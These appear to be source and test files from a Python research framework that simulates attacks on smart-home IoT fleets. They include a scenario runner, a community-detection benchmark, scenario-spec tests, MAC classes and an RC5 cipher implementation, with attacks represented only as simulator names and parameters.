        _telemetry.registry().counter(
            "fleet.shard_replays",
            homes=",".join(f"{i:02d}" for i in indices)).inc()
    replacement = _LocalShard(spec, indices)
    outputs: Dict[int, EpochOutput] = {}
    for epoch in range(upto_epoch + 1):
        inbound = {index: journal[epoch].get(index, [])
                   for index in indices}
        outputs = replacement.advance(epoch, inbound)
    return replacement, outputs


def run_exchange_spec(spec: ScenarioSpec,
                      workers: Optional[int] = 1,
                      max_home_retries: int = 3,
                      retry_backoff_s: float = 0.05,
                      on_home: Optional[Callable[[HomeRunResult], None]] = None,
                      cross_indices: Set[int] = frozenset(),
                      ) -> ScenarioResult:
    """Run a multi-home spec with cross-home attacks in lockstep epochs.

    Called by :func:`repro.scenarios.spec.run_spec` — not directly —
    whenever a multi-home spec schedules a cross-home attack.  The
    signature mirrors ``run_spec``; ``max_home_retries`` and
    ``retry_backoff_s`` are accepted for parity but crash recovery here
    is journal replay (deterministic, in-parent) rather than blind
    retry, so they are not consulted.
    """
    n_homes = len(spec.homes)
    boundaries = _epoch_boundaries(spec)
    n_epochs = len(boundaries)
    if workers is None:
        workers = os.cpu_count() or 1
    workers = min(workers, n_homes)
    parallel = workers > 1 and fork_available()

    fleet_registry = MetricsRegistry() if _telemetry.ENABLED else None

    if parallel:
        # Warm the prototype cache before forking so snapshots ride into
        # the shards via copy-on-write pages (same as the fast path).
        if PROTOTYPES.enabled:
            for home_spec in spec.homes:
                PROTOTYPES.warm(home_spec)
        context = multiprocessing.get_context("fork")
        shards = [_ForkedShard(context, spec, indices)
                  for indices in _shard_layout(n_homes, workers)]
    else:
        shards = [_LocalShard(spec, list(range(n_homes)))]

    replayed: Set[int] = set()
    # journal[e][home] = the messages routed *into* home at epoch e's
    # start; epoch 0 has no inbound.  This is both the router's working
    # state and the crash-replay source of truth.
    journal: List[Inbound] = []
    pending: Inbound = {}
    try:
        for epoch in range(n_epochs):
            inbound, pending = pending, {}
            journal.append(inbound)
            outputs: Dict[int, EpochOutput] = {}
            for position, shard in enumerate(shards):
                shard_inbound = {index: inbound[index]
                                 for index in shard.indices
                                 if index in inbound}
                try:
                    outputs.update(shard.advance(epoch, shard_inbound))
                except ShardCrash:
                    if _telemetry.ENABLED:
                        _telemetry.registry().counter(
                            "fleet.shard_failures").inc()
                    shard.close()
                    replacement, replayed_out = _replay_shard(
                        spec, shard.indices, journal, epoch)
                    shards[position] = replacement
                    replayed.update(shard.indices)
                    outputs.update(replayed_out)
            # Deterministic global routing order: every home's outbox,
            # sorted by (epoch, src_home, seq).  Sends of this epoch all
            # carry the same epoch stamp, so this is src-home-major,
            # send-order-minor — independent of shard layout and of
            # which shard replied first.
            messages: List[CrossHomeMessage] = []
            for index in sorted(outputs):
                messages.extend(outputs[index][0])
            messages.sort(key=CrossHomeMessage.sort_key)
            for message in messages:
                pending.setdefault(message.dst_home, []).append(message)
            if fleet_registry is not None:
                fleet_registry.counter("fleet.epochs").inc()
                for message in messages:
                    fleet_registry.counter("fleet.exchange_messages",
                                           kind=message.kind).inc()
                fleet_registry.gauge(
                    "fleet.infected_devices", epoch=f"{epoch:03d}").set(
                    sum(infected for _, infected in outputs.values()))

        # Messages emitted during the final epoch have no next boundary
        # to deliver at; count them rather than dropping silently.
        dropped = sum(len(batch) for batch in pending.values())
        if fleet_registry is not None and dropped:
            fleet_registry.counter("fleet.exchange_dropped").inc(dropped)

        homes_by_index: Dict[int, HomeRunResult] = {}
        for position, shard in enumerate(shards):
            try:
                results = shard.finish()
            except ShardCrash:
                if _telemetry.ENABLED:
                    _telemetry.registry().counter(
                        "fleet.shard_failures").inc()
                shard.close()
                replacement, _ = _replay_shard(
                    spec, shard.indices, journal, n_epochs - 1)
                shards[position] = replacement
                replayed.update(shard.indices)
                results = replacement.finish()
            for home in results:
                homes_by_index[home.home_index] = home
    finally:
        for shard in shards:
            shard.close()

    result = ScenarioResult(spec=spec, features={}, device_types={},
                            infected=set(), outcomes=[], alerts=[])
    outcomes: Dict[int, object] = {}
    for index in range(n_homes):
        home = homes_by_index.get(index)
        if home is None:
            raise SpecError(f"home {index} produced no result "
                            "(shard lost and replay failed)")
        if index in replayed:
            home.degraded = True
        _merge_home(result, home, outcomes, cross_indices)
        if on_home is not None:
            on_home(home)
    result.outcomes = [outcomes.get(i) for i in range(len(spec.attacks))]
    if fleet_registry is not None:
        if result.telemetry is None:
            result.telemetry = MetricsRegistry()
        result.telemetry.merge(fleet_registry)
    if result.telemetry is not None:
        # Fold into the process registry so CLI --telemetry exports see
        # exchange runs too (same contract as the fast path).
        _telemetry.registry().merge(result.telemetry)
    return result
