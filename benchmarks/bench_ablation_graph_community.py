"""A5 — ablation: graph-based community learning across a fleet (§IV-D).

"Users running the same IoT devices and similar automation applications
could be considered as a group or community, which should present
similar behaviors" — so an infected device should (a) fail to join its
type-peers' community and (b) score far from its peer-group centroid.

Fleet: several identical homes, one of them hit by a (DDoS-less) Mirai
infection; features are purely traffic-observable.
"""

import numpy as np
import pytest

from benchmarks.conftest import emit
from repro.core.graphlearn import CommunityModel
from repro.metrics import format_table, score_detection
from repro.scenarios import run_fleet


@pytest.fixture(scope="module")
def fleet_model():
    fleet = run_fleet(n_homes=4, infected_homes=(1,), duration_s=240.0)
    names, matrix = fleet.feature_matrix()
    scale = np.maximum(np.abs(matrix).max(axis=0), 1e-9)
    model = CommunityModel(similarity_scale=0.5, edge_threshold=0.3)
    for name in names:
        model.add_entity(name,
                         (np.array(fleet.features[name]) / scale).tolist())
    model.build()
    return fleet, model


def test_a5_community_table(benchmark, fleet_model):
    fleet, model = fleet_model
    benchmark.pedantic(model.build, rounds=1, iterations=1)
    rows = []
    for index, community in enumerate(model.communities):
        types = {}
        for member in community:
            t = fleet.device_types[member]
            types[t] = types.get(t, 0) + 1
        infected_members = sorted(set(community) & fleet.infected)
        rows.append([
            index, len(community),
            ", ".join(f"{t}x{c}" for t, c in sorted(types.items())),
            ", ".join(infected_members) or "-",
        ])
    emit("A5 — fleet communities (4 homes x 8 devices, home01 infected)",
         format_table(["community", "size", "composition",
                       "infected members"], rows))
    assert len(model.communities) >= 3


def test_a5_infected_devices_isolated_from_their_peers(benchmark,
                                                       fleet_model):
    fleet, model = fleet_model
    isolated = benchmark.pedantic(
        lambda: set(model.small_communities(max_size=1)),
        rounds=1, iterations=1)
    # Every isolated device is infected; infected devices never sit in
    # the big clean clusters with their type peers.
    assert isolated <= fleet.infected or not isolated
    for name in fleet.infected:
        community_index = model.community_of(name)
        community = model.communities[community_index]
        clean_peers = {
            other for other in fleet.device_types
            if fleet.device_types[other] == fleet.device_types[name]
            and other not in fleet.infected
        }
        assert not (set(community) & clean_peers), (
            f"{name} still clusters with clean peers"
        )


def test_a5_peer_group_scores_rank_infected_first(benchmark, fleet_model):
    fleet, model = fleet_model
    scores = benchmark.pedantic(
        lambda: model.peer_group_scores(fleet.device_types),
        rounds=1, iterations=1)
    ranked = sorted(scores, key=lambda n: -scores[n])
    top = set(ranked[:len(fleet.infected)])
    metrics = score_detection(top, fleet.infected)
    emit("A5 — peer-group anomaly ranking (top scores)",
         format_table(
             ["device", "peer-group distance", "infected?"],
             [[n, f"{scores[n]:.3f}",
               "YES" if n in fleet.infected else ""]
              for n in ranked[:6]]))
    assert metrics.recall == 1.0, (
        f"infected devices not at the top of the ranking: {ranked[:4]}"
    )
