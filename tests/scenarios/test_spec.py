"""The declarative scenario engine: registry, round-trips, identity."""

import importlib
import inspect
import json
import pkgutil

import pytest

import repro.attacks
from repro.attacks.base import Attack
from repro.core import XlfConfig
from repro.core.signals import Layer
from repro.scenarios import (
    ATTACKS,
    AttackSpec,
    DeviceEntry,
    HomeSpec,
    ScenarioSpec,
    SpecError,
    load_builtin_attacks,
    run_spec,
)
from repro.scenarios.fleet import fleet_spec, run_fleet
from repro.scenarios.spec import fork_available

needs_fork = pytest.mark.skipif(not fork_available(),
                                reason="platform lacks fork start method")


class TestAttackRegistry:
    def all_attack_classes(self):
        """Every concrete Attack subclass shipped in repro.attacks."""
        classes = set()
        for info in pkgutil.iter_modules(repro.attacks.__path__):
            module = importlib.import_module(f"repro.attacks.{info.name}")
            for _, obj in inspect.getmembers(module, inspect.isclass):
                if (issubclass(obj, Attack) and obj is not Attack
                        and obj.__module__ == module.__name__):
                    classes.add(obj)
        return classes

    def test_every_shipped_attack_is_registered(self):
        load_builtin_attacks()
        shipped = self.all_attack_classes()
        assert shipped, "no attack classes discovered"
        registered = set(ATTACKS.ordered())
        assert shipped == registered

    def test_registered_metadata_is_complete(self):
        for cls in ATTACKS.ordered():
            assert cls.name and cls.name != "abstract-attack"
            assert cls.surface_layers, cls.name
            assert len(cls.table_ii_row) == 3, cls.name
            assert all(cls.table_ii_row), cls.name

    def test_names_are_sorted_and_unique(self):
        names = ATTACKS.names()
        assert names == sorted(names)
        assert len(names) == len(set(names)) == len(ATTACKS)

    def test_unknown_attack_rejected_with_known_names(self):
        with pytest.raises(SpecError, match="mirai-botnet"):
            ATTACKS.get("time-travel")

    def test_bad_params_rejected(self):
        with pytest.raises(SpecError, match="bad params"):
            run_spec(ScenarioSpec(
                attacks=[AttackSpec(attack="mirai-botnet",
                                    params={"warp_factor": 9})],
                duration_s=10.0))

    def test_duplicate_registration_rejected(self):
        class Imposter(Attack):
            name = "mirai-botnet"
            surface_layers = ("device",)
            table_ii_row = ("a", "b", "c")

        with pytest.raises(SpecError, match="already registered"):
            ATTACKS.register(Imposter)

    def test_metadata_validation_on_register(self):
        class NoLayers(Attack):
            name = "no-layers"
            table_ii_row = ("a", "b", "c")

        with pytest.raises(SpecError, match="surface_layers"):
            ATTACKS.register(NoLayers)


class TestSpecSerialization:
    def full_spec(self):
        from repro.core.streaming import StreamingConfig

        config = XlfConfig.only(Layer.NETWORK)
        config.disabled_functions = ("traffic-shaper",)
        config.streaming = StreamingConfig(refresh_s=20.0, min_refreshes=1)
        return ScenarioSpec(
            name="round-trip",
            homes=[
                HomeSpec(),
                HomeSpec(devices=[
                    DeviceEntry("camera",
                                ("default_credentials", "open_telnet")),
                    DeviceEntry("smart_lock"),
                ], dns_mode="doh", cloud_coarse_grants=True,
                    activity=True, activity_interval_s=45.0,
                    activity_rng="resident-x"),
            ],
            attacks=[
                AttackSpec(attack="mirai-botnet", home=1, at=30.0,
                           params={"run_ddos": False,
                                   "scan_interval_s": 0.25}),
                AttackSpec(attack="event-spoofing"),
            ],
            xlf=config,
            seed=7,
            warmup_s=4.0,
            duration_s=120.0,
            collect_features=True,
        )

    def test_json_round_trip_equality(self):
        spec = self.full_spec()
        data = json.loads(json.dumps(spec.to_dict()))
        assert ScenarioSpec.from_dict(data) == spec

    def test_round_trip_without_xlf(self):
        spec = ScenarioSpec(xlf=None, attacks=[], duration_s=15.0)
        assert ScenarioSpec.from_dict(
            json.loads(json.dumps(spec.to_dict()))) == spec

    def test_fleet_spec_round_trips(self):
        spec = fleet_spec(n_homes=3, infected_homes=(1,), duration_s=30.0)
        assert ScenarioSpec.from_dict(spec.to_dict()) == spec

    def test_unknown_keys_rejected(self):
        with pytest.raises(SpecError, match="unknown scenario keys"):
            ScenarioSpec.from_dict({"durationn_s": 10})
        with pytest.raises(SpecError, match="unknown home keys"):
            ScenarioSpec.from_dict({"homes": [{"device": []}]})
        with pytest.raises(SpecError, match="unknown attack keys"):
            ScenarioSpec.from_dict({"attacks": [{"attack": "mirai-botnet",
                                                 "when": 3}]})

    def test_unknown_vulnerability_flag_rejected(self):
        spec = ScenarioSpec(homes=[HomeSpec(devices=[
            DeviceEntry("camera", ("open_sesame",))])], duration_s=10.0)
        with pytest.raises(SpecError, match="open_sesame"):
            run_spec(spec)

    def test_validate_rejects_out_of_range_home(self):
        with pytest.raises(SpecError, match="targets home 3"):
            ScenarioSpec(attacks=[AttackSpec(attack="mirai-botnet",
                                             home=3)]).validate()

    def test_validate_rejects_unknown_attack_name(self):
        with pytest.raises(SpecError, match="unknown attack"):
            ScenarioSpec(attacks=[AttackSpec(attack="nope")]).validate()


class TestRunSpec:
    @pytest.fixture(scope="class")
    def botnet_spec(self):
        return ScenarioSpec(
            name="t",
            homes=[HomeSpec()],
            attacks=[AttackSpec(attack="mirai-botnet",
                                params={"run_ddos": False})],
            xlf=XlfConfig.full(),
            seed=3,
            duration_s=90.0,
        )

    @pytest.fixture(scope="class")
    def botnet_result(self, botnet_spec):
        return run_spec(botnet_spec)

    def test_outcomes_align_with_spec_attacks(self, botnet_spec,
                                              botnet_result):
        assert len(botnet_result.outcomes) == len(botnet_spec.attacks)
        outcome = botnet_result.outcomes[0]
        assert outcome is not None and outcome.succeeded
        assert "camera-1" in outcome.compromised_devices

    def test_alerts_and_infected_recorded(self, botnet_result):
        assert botnet_result.detected_devices() == \
            botnet_result.compromised_devices()
        assert "home00/camera-1" in botnet_result.infected

    def test_spec_reuse_is_deterministic(self, botnet_spec, botnet_result):
        again = run_spec(botnet_spec)
        assert [a.timestamp for a in again.alerts] == \
            [a.timestamp for a in botnet_result.alerts]
        assert again.infected == botnet_result.infected

    def test_delayed_attack_launches_later(self):
        spec = ScenarioSpec(
            homes=[HomeSpec()],
            attacks=[AttackSpec(attack="mirai-botnet", at=30.0,
                                params={"run_ddos": False})],
            duration_s=90.0,
        )
        result = run_spec(spec)
        outcome = result.outcomes[0]
        assert outcome is not None and outcome.succeeded

    def test_attack_past_duration_never_launches(self):
        spec = ScenarioSpec(
            homes=[HomeSpec()],
            attacks=[AttackSpec(attack="mirai-botnet", at=500.0)],
            duration_s=20.0,
        )
        result = run_spec(spec)
        assert result.outcomes == [None]
        assert not result.infected

    def test_undefended_spec_has_no_alerts(self):
        result = run_spec(ScenarioSpec(
            homes=[HomeSpec()],
            attacks=[AttackSpec(attack="mirai-botnet",
                                params={"run_ddos": False})],
            xlf=None, duration_s=60.0))
        assert result.alerts == []
        assert result.infected  # nothing defended the home

    def test_disabled_functions_survive_spec_reuse(self):
        config = XlfConfig.full()
        config.disabled_functions = ("traffic-monitor",)
        spec = ScenarioSpec(homes=[HomeSpec()], attacks=[],
                            xlf=config, duration_s=10.0)
        run_spec(spec)
        # run_spec hands the host a copy, so the spec's config is
        # untouched and a second run sees the same posture.
        assert spec.xlf.disabled_functions == ("traffic-monitor",)


class TestSerialParallelIdentity:
    @pytest.fixture(scope="class")
    def spec(self):
        return fleet_spec(n_homes=2, infected_homes=(1,), duration_s=60.0,
                          base_seed=100)

    @pytest.fixture(scope="class")
    def serial(self, spec):
        return run_spec(spec)

    @needs_fork
    def test_run_spec_parallel_identity(self, spec, serial):
        par = run_spec(spec, workers=2)
        assert par.features == serial.features
        assert list(par.features) == list(serial.features)
        assert par.device_types == serial.device_types
        assert par.infected == serial.infected
        assert [(h.home_index, sorted(h.infected)) for h in par.homes] == \
            [(h.home_index, sorted(h.infected)) for h in serial.homes]

    def test_run_fleet_matches_run_spec(self, spec, serial):
        classic = run_fleet(n_homes=2, infected_homes=(1,), duration_s=60.0,
                            base_seed=100)
        assert classic.features == serial.features
        assert classic.infected == serial.infected


class TestRunSpecResilience:
    """The hardened parallel path: worker death, fork fallback, workers=None."""

    def fleet(self, n_homes=3):
        return fleet_spec(n_homes=n_homes, infected_homes=(1,),
                          duration_s=60.0, base_seed=100)

    @needs_fork
    def test_worker_crash_is_retried_and_flagged(self, monkeypatch):
        """Killing a worker mid-fleet must not lose any home."""
        import os

        import repro.scenarios.spec as spec_module

        def crash_home_one(index):
            if index == 1:
                os._exit(1)

        serial = run_spec(self.fleet())
        # The patch rides into the forked workers; the serial retry
        # calls run_home directly and bypasses the hook.
        monkeypatch.setattr(spec_module, "_worker_crash_hook",
                            crash_home_one)
        par = run_spec(self.fleet(), workers=2)
        assert 1 in par.degraded_homes
        assert sorted(h.home_index for h in par.homes) == [0, 1, 2]
        assert par.features == serial.features
        assert par.infected == serial.infected
        assert par.outcomes == serial.outcomes

    @needs_fork
    def test_unrecoverable_home_raises_spec_error(self, monkeypatch):
        import repro.scenarios.spec as spec_module

        monkeypatch.setattr(
            spec_module, "run_home",
            lambda spec, index: (_ for _ in ()).throw(RuntimeError("boom")))
        with pytest.raises(SpecError, match="after 2 serial retries"):
            spec_module._retry_home_serially(self.fleet(), 0,
                                             max_retries=2, backoff_s=0.0)

    def test_fork_unavailable_falls_back_to_serial(self, monkeypatch):
        import repro.scenarios.spec as spec_module

        monkeypatch.setattr(spec_module, "fork_available", lambda: False)
        serial = run_spec(self.fleet(n_homes=2))
        fallback = run_spec(self.fleet(n_homes=2), workers=4)
        assert fallback.features == serial.features
        assert fallback.infected == serial.infected
        assert fallback.degraded_homes == []

    def test_workers_none_resolves_to_cpu_count(self, monkeypatch):
        import repro.scenarios.spec as spec_module

        # Pin cpu_count to 1 so workers=None takes the serial path
        # deterministically on any machine.
        monkeypatch.setattr(spec_module.os, "cpu_count", lambda: 1)
        serial = run_spec(self.fleet(n_homes=2))
        resolved = run_spec(self.fleet(n_homes=2), workers=None)
        assert resolved.features == serial.features
        assert resolved.infected == serial.infected


class TestSerialParallelIdentityWithFaults:
    """Same spec + seed must give byte-identical results — telemetry
    included — across serial and parallel, with faults active."""

    def faulty_fleet(self):
        from repro.scenarios import FaultSpec

        spec = fleet_spec(n_homes=2, infected_homes=(1,), duration_s=60.0,
                          base_seed=100)
        spec.faults = [
            FaultSpec(fault="packet-loss", home=0, at=5.0, duration_s=20.0,
                      params={"loss_rate": 0.4}),
            FaultSpec(fault="device-crash", home=1, at=10.0,
                      duration_s=15.0),
            FaultSpec(fault="cloud-outage", home=1, at=30.0,
                      duration_s=10.0),
        ]
        return spec

    @needs_fork
    def test_identity_including_telemetry(self):
        from repro import telemetry

        telemetry.reset()
        telemetry.enable()
        try:
            serial = run_spec(self.faulty_fleet())
            telemetry.reset()
            par = run_spec(self.faulty_fleet(), workers=2)
        finally:
            telemetry.disable()
            telemetry.reset()
        assert serial.telemetry.snapshot() == par.telemetry.snapshot()
        assert serial.features == par.features
        assert serial.infected == par.infected
        assert serial.outcomes == par.outcomes
        assert [(e.index, e.fault, e.home, e.target, e.injected_at,
                 e.recovered_at) for e in serial.fault_events] == \
            [(e.index, e.fault, e.home, e.target, e.injected_at,
              e.recovered_at) for e in par.fault_events]
        assert [a.timestamp for a in serial.alerts] == \
            [a.timestamp for a in par.alerts]
