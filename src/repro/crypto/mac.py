"""Message authentication codes over the lightweight suite."""

from __future__ import annotations

import hmac as _compare

from repro.crypto.base import BlockCipher, CryptoError, xor_bytes
from repro.crypto.hashes import SpongeHash


class HmacLite:
    """HMAC over :class:`SpongeHash` (RFC 2104 construction)."""

    BLOCK = 32  # bytes; pad/ipad width for the sponge

    def __init__(self, key: bytes, digest_size: int = 16):
        if not key:
            raise CryptoError("empty MAC key")
        self._hash = SpongeHash(digest_size)
        if len(key) > self.BLOCK:
            key = self._hash.digest(key)
        self._key = key.ljust(self.BLOCK, b"\x00")

    def mac(self, message: bytes) -> bytes:
        ipad = bytes(b ^ 0x36 for b in self._key)
        opad = bytes(b ^ 0x5C for b in self._key)
        inner = self._hash.digest(ipad + message)
        return self._hash.digest(opad + inner)

    def verify(self, message: bytes, tag: bytes) -> bool:
        return _compare.compare_digest(self.mac(message), tag)


class CbcMac:
    """Classic CBC-MAC with length prepending (secure for our fixed-length
    framework messages; length-extension caveats documented)."""

    def __init__(self, cipher: BlockCipher):
        self.cipher = cipher
        self.block_size = cipher.block_size

    def mac(self, message: bytes) -> bytes:
        bs = self.block_size
        # Prepend the length block to close the variable-length gap.
        data = len(message).to_bytes(bs, "big") + message
        if len(data) % bs:
            data += b"\x00" * (bs - len(data) % bs)
        state = bytes(bs)
        for i in range(0, len(data), bs):
            state = self.cipher.encrypt_block(xor_bytes(state, data[i : i + bs]))  # noqa: E203
        return state

    def verify(self, message: bytes, tag: bytes) -> bool:
        return _compare.compare_digest(self.mac(message), tag)
