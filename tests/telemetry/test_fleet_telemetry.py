"""Fleet-level telemetry: per-home registries, merge identity."""

import pytest

from repro import telemetry
from repro.scenarios import fleet, parallel
from repro.telemetry.export import to_jsonl, to_prometheus

needs_fork = pytest.mark.skipif(not parallel.fork_available(),
                                reason="platform lacks fork start method")

FLEET_KW = dict(n_homes=2, infected_homes=(1,), duration_s=30.0,
                base_seed=700)


def test_disabled_fleet_attaches_no_telemetry():
    result = fleet.run_fleet(**FLEET_KW)
    assert result.telemetry is None


def test_enabled_fleet_populates_registry():
    telemetry.enable()
    result = fleet.run_fleet(**FLEET_KW)
    registry = result.telemetry
    assert registry is not None
    assert registry.counter_value("fleet.homes") == 2
    assert registry.counter_value("fleet.devices_featurised") == \
        len(result.features)
    assert registry.counter_total("net.link.packets") > 0
    homes = [s for s in registry.spans if s[0] == "fleet.home"]
    assert sorted(dict(s[3])["home"] for s in homes) == ["00", "01"]
    # The fleet's merged telemetry also lands in the process registry
    # so CLI exports include fleet runs.
    assert telemetry.registry().counter_value("fleet.homes") == 2


@needs_fork
def test_serial_and_parallel_telemetry_identical():
    telemetry.enable()
    serial = fleet.run_fleet(**FLEET_KW)
    telemetry.reset()
    par = parallel.run_fleet(workers=2, **FLEET_KW)
    snap_serial = serial.telemetry.snapshot()
    snap_parallel = par.telemetry.snapshot()
    assert snap_serial == snap_parallel
    # Byte-identical exports, not just equal totals.
    assert to_prometheus(snap_serial) == to_prometheus(snap_parallel)
    assert to_jsonl(snap_serial) == to_jsonl(snap_parallel)


def test_home_registry_swap_restores_process_registry():
    telemetry.enable()
    before = telemetry.registry()
    fleet.run_fleet(n_homes=1, duration_s=10.0, base_seed=701)
    assert telemetry.registry() is before
