"""RC5 — Rivest's parameterised block cipher (faithful).

RC5-w/r/b: word size ``w`` in {16, 32, 64} bits (block = 2w), ``r``
rounds, ``b``-byte key.  The Table III entry lists the spec's full
parameter space (block 32/64/128, rounds 1..255, key 0..2040 bits); the
registry instantiates the common RC5-32/12/16.
"""

from __future__ import annotations

from repro.crypto.base import BlockCipher, CryptoError, rotl, rotr

_MAGIC = {
    16: (0xB7E1, 0x9E37),
    32: (0xB7E15163, 0x9E3779B9),
    64: (0xB7E151628AED2A6B, 0x9E3779B97F4A7C15),
}


class Rc5(BlockCipher):
    """RC5 with configurable word size and rounds (default RC5-32/12/16)."""

    name = "RC5"
    block_size_bits = 64
    key_size_bits = tuple(range(0, 2048, 8))  # 0..255 bytes per spec
    structure = "Feistel"
    num_rounds = 12

    def __init__(self, key: bytes, word_bits: int = 32, rounds: int = 12):
        if word_bits not in _MAGIC:
            raise CryptoError(f"RC5 word size must be 16/32/64 bits, got {word_bits}")
        if not 0 <= rounds <= 255:
            raise CryptoError(f"RC5 rounds must be 0..255, got {rounds}")
        self.word_bits = word_bits
        self.word_bytes = word_bits // 8
        self.block_size_bits = 2 * word_bits
        self.num_rounds = rounds
        super().__init__(key)

    @property
    def rounds(self) -> int:
        return self.num_rounds

    def _setup(self, key: bytes) -> None:
        w = self.word_bits
        mask = (1 << w) - 1
        p, q = _MAGIC[w]
        u = self.word_bytes
        b = len(key)
        c = max(1, (b + u - 1) // u)
        # Convert key bytes to words, little-endian per spec.
        lwords = [0] * c
        for i in range(b - 1, -1, -1):
            lwords[i // u] = ((lwords[i // u] << 8) + key[i]) & mask
        t = 2 * (self.num_rounds + 1)
        s = [(p + i * q) & mask for i in range(t)]
        a = bb = i = j = 0
        for _ in range(3 * max(t, c)):
            a = s[i] = rotl((s[i] + a + bb) & mask, 3, w)
            bb = lwords[j] = rotl((lwords[j] + a + bb) & mask, (a + bb) % w, w)
            i = (i + 1) % t
            j = (j + 1) % c
        self._s = s
        self._mask = mask

    def encrypt_block(self, block: bytes) -> bytes:
        block = self._check_block(block)
        u, w, mask, s = self.word_bytes, self.word_bits, self._mask, self._s
        a = int.from_bytes(block[:u], "little")
        b = int.from_bytes(block[u:], "little")
        a = (a + s[0]) & mask
        b = (b + s[1]) & mask
        for i in range(1, self.num_rounds + 1):
            a = (rotl(a ^ b, b % w, w) + s[2 * i]) & mask
            b = (rotl(b ^ a, a % w, w) + s[2 * i + 1]) & mask
        return a.to_bytes(u, "little") + b.to_bytes(u, "little")

    def decrypt_block(self, block: bytes) -> bytes:
        block = self._check_block(block)
        u, w, mask, s = self.word_bytes, self.word_bits, self._mask, self._s
        a = int.from_bytes(block[:u], "little")
        b = int.from_bytes(block[u:], "little")
        for i in range(self.num_rounds, 0, -1):
            b = rotr((b - s[2 * i + 1]) & mask, a % w, w) ^ a
            a = rotr((a - s[2 * i]) & mask, b % w, w) ^ b
        b = (b - s[1]) & mask
        a = (a - s[0]) & mask
        return a.to_bytes(u, "little") + b.to_bytes(u, "little")
